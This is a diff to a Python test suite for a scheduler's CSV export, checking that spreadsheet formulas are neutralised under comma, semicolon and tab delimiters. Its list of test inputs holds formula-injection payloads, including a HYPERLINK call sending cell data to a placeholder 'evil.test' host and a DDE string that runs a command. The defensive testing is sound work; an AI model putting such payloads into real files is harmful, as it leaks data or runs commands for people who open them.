@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from scheduler.csv_cells import defused, encoded, written
+from scheduler.csv_cells import defused, encoded, restored, written
 
 FORMULAS = (
     '=HYPERLINK("https://evil.test?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
@@ -17,12 +17,29 @@ FORMULAS = (
 
 @pytest.mark.parametrize("cell", FORMULAS)
 def test_what_a_spreadsheet_would_compute_is_text(cell: str) -> None:
-    assert defused(cell) == f"'{cell}"
+    assert str(defused(cell)).startswith("'")
+    assert restored(str(defused(cell))) == cell
     ((read,),) = read_back(written([cell], []))
-    assert read == f"'{cell}"
+    assert read == defused(cell)
 
 
-@pytest.mark.parametrize("cell", ["", "Ana", "a=b", "O'Hara", "5-6", "1@2", -5, 0, 1.5, -0.25, None])
+@pytest.mark.parametrize("cell", FORMULAS[:5])
+@pytest.mark.parametrize("before", ["x;", "x\n", "x\t", 'x;"', "x; "])
+def test_so_it_is_where_a_program_parts_cells_by_other_signs(before: str, cell: str) -> None:
+    hidden = before + cell
+    assert restored(str(defused(hidden))) == hidden
+    for sign in ",;\t":
+        assert begins_no_formula(written(["a", "b"], [["x", hidden], [hidden, "x"]]), sign)
+    assert not begins_no_formula(f"x,{hidden}", ";" if ";" in before else "\t")  # so that the test can fail
+
+
+@given(st.lists(st.lists(st.text("=+-@;,\t\r\n'\" x＝"), min_size=2, max_size=2), max_size=3), st.sampled_from(",;\t"))
+def test_no_text_is_a_formula_whatever_signs_part_it(rows: list[list[str]], sign: str) -> None:
+    assert begins_no_formula(written(["a", "b"], rows), sign)
+    assert all(restored(str(defused(cell))) == cell for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("cell", ["", "Ana", "a=b", "O'Hara", "5-6", "1@2", "a; b", "1\n2", -5, 0, 1.5, -0.25, None])
 def test_anything_else_stays_what_it_is(cell: str | float | None) -> None:
     assert defused(cell) == cell
 
@@ -43,6 +60,11 @@ def test_lines_are_those_of_rfc_4180() -> None:
 
 def test_a_file_tells_a_spreadsheet_that_it_is_utf_8() -> None:
     assert encoded(["Núñez"], []) == b"\xef\xbb\xbfN\xc3\xba\xc3\xb1ez\r\n"
+
+
+def begins_no_formula(text: str, sign: str) -> bool:
+    read = csv.reader(StringIO(text, newline=""), delimiter=sign)
+    return not any(cell.lstrip()[:1] in set("=+-@＝") for row in read for cell in row if cell.lstrip())
 
 
 def read_back(text: str) -> list[list[str]]:
